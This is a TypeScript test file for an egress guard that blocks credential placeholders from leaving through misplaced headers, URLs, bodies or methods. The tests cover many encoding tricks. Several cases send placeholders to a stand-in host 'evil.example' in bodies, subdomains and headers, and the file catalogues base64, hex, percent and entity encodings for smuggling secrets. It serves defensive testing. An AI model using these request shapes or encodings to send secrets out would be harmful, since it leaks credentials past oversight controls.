import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { test } from "node:test";
import { createPlaceholder, type EgressEvent } from "@toolcrib/egress";
import { codeOf, credential, type EgressRequest, host, patterns, startFixture } from "./fixture.ts";

const bearer = credential("s3cret-value");
const query = credential("s3cret-query", {
  id: "key",
  place: { kind: "query", name: "key", format: "{token}" },
});
const prefix = credential("s3cret-path", { id: "bot", place: { kind: "pathPrefix", format: "/bot{token}" } });
const one = bearer.placeholder;
const url = `https://${host}`;

/** Every encoding in which a placeholder is recognized. */
const encodings: { readonly [title: string]: (text: string) => string } = {
  plain: (text) => text,
  "in capitals": (text) => text.toUpperCase(),
  "within a text": (text) => `see ${text}, please`,
  "within a word": (text) => `x${text}0`,
  "percent-encoded": (text) => text.replaceAll("-", "%2d"),
  "percent-encoded as a whole": (text) => [...text].map((at) => `%${at.charCodeAt(0).toString(16)}`).join(""),
  "percent-encoded twice": (text) => encodeURIComponent(text.replaceAll("-", "%2D")),
  "in hexadecimal": (text) => Buffer.from(text).toString("hex"),
  "in upper-case hexadecimal": (text) => Buffer.from(text).toString("hex").toUpperCase(),
  "in base64": (text) => Buffer.from(text).toString("base64"),
  "in base64 after one byte": (text) => Buffer.from(`:${text}`).toString("base64"),
  "in base64 after two bytes": (text) => Buffer.from(`u:${text}`).toString("base64url"),
  "in base64 within a longer text": (text) => Buffer.from(`user:${text}:more`).toString("base64"),
  "escaped for JSON": (text) => [...text].map((at) => `\\u00${at.charCodeAt(0).toString(16)}`).join(""),
  "escaped for JSON twice": (text) => text.replaceAll("-", "\\\\u002D"),
  "as HTML entities": (text) => [...text].map((at) => `&#x${at.charCodeAt(0).toString(16)};`).join(""),
  "as decimal entities": (text) => text.replaceAll("-", "&#045;"),
};

function isAlarm(event: EgressEvent): event is EgressEvent & { kind: "egress.alarm" } {
  return event.kind === "egress.alarm";
}

for (const [title, encode] of Object.entries(encodings)) {
  test(`fetch() refuses a placeholder ${title}, in every part of a request`, async () => {
    await using fixture = await startFixture();
    const text = encode(one);
    const cases: (readonly [where: string, request: Partial<EgressRequest>])[] = [
      ["body", { method: "POST", body: Buffer.from(text) }],
      ["body", { method: "POST", body: Buffer.concat([Buffer.alloc(100_000, "x"), Buffer.from(text)]) }],
      ["header:x-other", { headers: { "X-Other": text } }],
    ];
    if (/^[!-~]*$/.test(text) && !text.includes("\\") && !text.includes("#")) {
      cases.push(["url", { url: `${url}/a/${text}/b` }], ["url", { url: `${url}/?q=${text}` }]);
    }
    for (const [where, request] of cases) {
      assert.equal(
        await codeOf(fixture.send(request, { credentials: [bearer] })),
        "EGRESS_PLACEHOLDER_MISPLACED",
      );
      const alarm = fixture.events.filter(isAlarm).at(-1);
      assert.deepEqual(
        [alarm?.where, alarm?.credential, alarm?.owner, alarm?.source],
        [where, "token", "toolspec:test", "toolspec:test"],
      );
    }
    assert.equal(fixture.events.filter(isAlarm).length, cases.length);
    assert.equal(fixture.server.connectionCount, 0);
  });
}

function checkMisplaced(title: string, request: Partial<EgressRequest>, where: string): void {
  test(`fetch() refuses a placeholder ${title}`, async () => {
    await using fixture = await startFixture();
    const sent = fixture.send(request, { credentials: [bearer, query, prefix] });
    assert.equal(await codeOf(sent), "EGRESS_PLACEHOLDER_MISPLACED");
    const alarms = fixture.events.filter(isAlarm);
    assert.equal(alarms.length, 1);
    assert.equal(alarms[0]?.where, where);
    assert.ok(!JSON.stringify(fixture.events).includes("toolcrib-ph-"), "no event contains a placeholder");
    assert.equal(fixture.server.connectionCount, 0);
  });
}

checkMisplaced("without its format", { headers: { Authorization: one } }, "header:authorization");
checkMisplaced("in another format", { headers: { Authorization: `Token ${one}` } }, "header:authorization");
checkMisplaced(
  "in its format with other letter case",
  { headers: { Authorization: `bearer ${one}` } },
  "header:authorization",
);
checkMisplaced(
  "with more after it",
  { headers: { Authorization: `Bearer ${one} x` } },
  "header:authorization",
);
checkMisplaced(
  "twice in its header",
  { headers: { Authorization: `Bearer ${one}${one}` } },
  "header:authorization",
);
checkMisplaced("in another header", { headers: { "X-Forward": `Bearer ${one}` } }, "header:x-forward");
checkMisplaced(
  "in its own header and in another one",
  { headers: { Authorization: `Bearer ${one}`, Cookie: one } },
  "header:cookie",
);
checkMisplaced("as the name of a header", { headers: { [one]: "x" } }, "header");
checkMisplaced(
  "in the header, if it belongs to another place",
  { headers: { Authorization: `Bearer ${query.placeholder}` } },
  "header:authorization",
);
checkMisplaced("in another query parameter", { url: `${url}/?other=${query.placeholder}` }, "url");
checkMisplaced("as the name of a query parameter", { url: `${url}/?${query.placeholder}=key` }, "url");
checkMisplaced(
  "in its query parameter and again",
  { url: `${url}/?key=${query.placeholder}&key=${query.placeholder}` },
  "url",
);
checkMisplaced("in its query parameter with more", { url: `${url}/?key=${query.placeholder}x` }, "url");
checkMisplaced("of a header in a query parameter", { url: `${url}/?key=${one}` }, "url");
checkMisplaced("of the path later in the path", { url: `${url}/x/bot${prefix.placeholder}/getMe` }, "url");
checkMisplaced(
  "of the path with more in its segment",
  { url: `${url}/bot${prefix.placeholder}x/getMe` },
  "url",
);
checkMisplaced(
  "of the path twice",
  { url: `${url}/bot${prefix.placeholder}/bot${prefix.placeholder}` },
  "url",
);
checkMisplaced("in the method", { method: one }, "method");
checkMisplaced(
  "that does not exist",
  { headers: { "X-Key": createPlaceholder(randomBytes) } },
  "header:x-key",
);

test("fetch() names the source that a placeholder was created for when another source sends it", async () => {
  await using fixture = await startFixture();
  const own = credential("own-secret");
  await fixture.send(
    { headers: { Authorization: `Bearer ${own.placeholder}` } },
    { id: "toolspec:a", credentials: [own] },
  );
  const sent = fixture.send({ headers: { Authorization: `Bearer ${own.placeholder}` } }, { id: "process:b" });
  assert.equal(await codeOf(sent), "EGRESS_PLACEHOLDER_MISPLACED");
  const alarm = fixture.events.find(isAlarm);
  assert.deepEqual([alarm?.source, alarm?.owner, alarm?.credential], ["process:b", "toolspec:a", "token"]);
});

test("fetch() raises the alarm for a placeholder in a request to a forbidden host, even in its place", async () => {
  await using fixture = await startFixture();
  const credentials = [bearer];
  const headers = { Authorization: `Bearer ${one}` };
  const cases: readonly (readonly [code: string, request: Partial<EgressRequest>])[] = [
    ["EGRESS_HOST_DENIED", { url: "https://evil.example/", headers }],
    ["EGRESS_PORT_DENIED", { url: `${url}:8443/`, headers }],
    ["EGRESS_HOST_DENIED", { url: `https://${one}.evil.example/` }],
    ["EGRESS_HOST_DENIED", { url: "https://evil.example/", method: "POST", body: Buffer.from(one) }],
    ["EGRESS_AUTHORITY_INVALID", { url: "http://api.example.com/", headers }],
    ["EGRESS_AUTHORITY_INVALID", { url: `https://${one}@api.example.com/` }],
    ["EGRESS_AUTHORITY_INVALID", { url: `https://${one}_/` }],
    ["EGRESS_HOST_DENIED", { url: "https://evil.example/", headers: { [one]: one } }],
  ];
  for (const [code, request] of cases) {
    assert.equal(await codeOf(fixture.send(request, { credentials })), code, JSON.stringify(request));
  }
  assert.equal(fixture.events.filter(isAlarm).length, cases.length);
  assert.ok(!JSON.stringify(fixture.events).includes("toolcrib-ph-"), "no event contains a placeholder");
  assert.equal(fixture.server.connectionCount, 0);
});

test("events contain only the host of a URL", async () => {
  await using fixture = await startFixture();
  for (const url of [
    "https://user:hunter2@api.example.com/",
    "https://user:hunter/2@api.example.com/",
    "https://u:hunter2/?q=hunter2#hunter2",
  ]) {
    assert.equal(await codeOf(fixture.send({ url })), "EGRESS_AUTHORITY_INVALID");
  }
  assert.doesNotMatch(JSON.stringify(fixture.events), /hunter/);
});

test("fetch() sends texts that only resemble a placeholder", async () => {
  await using fixture = await startFixture();
  for (const body of [
    "toolcrib-ph-",
    `toolcrib-ph-${"g".repeat(32)}`,
    `toolcrib-ph-${"0".repeat(31)}`,
    "toolcrib-",
  ]) {
    assert.equal((await fixture.send({ method: "POST", body: Buffer.from(body) })).status, 200);
  }
  assert.deepEqual(fixture.events, []);
});

test("a source with an invalid credential is refused before anything is sent", async () => {
  await using fixture = await startFixture();
  for (const wrong of [
    credential("x", { placeholder: "guessable" }),
    credential("x", { place: { kind: "header", name: "A", format: "none" } }),
  ]) {
    await assert.rejects(fixture.send({}, { credentials: [wrong], allow: patterns(host) }), {
      name: "AssertionError",
    });
  }
});
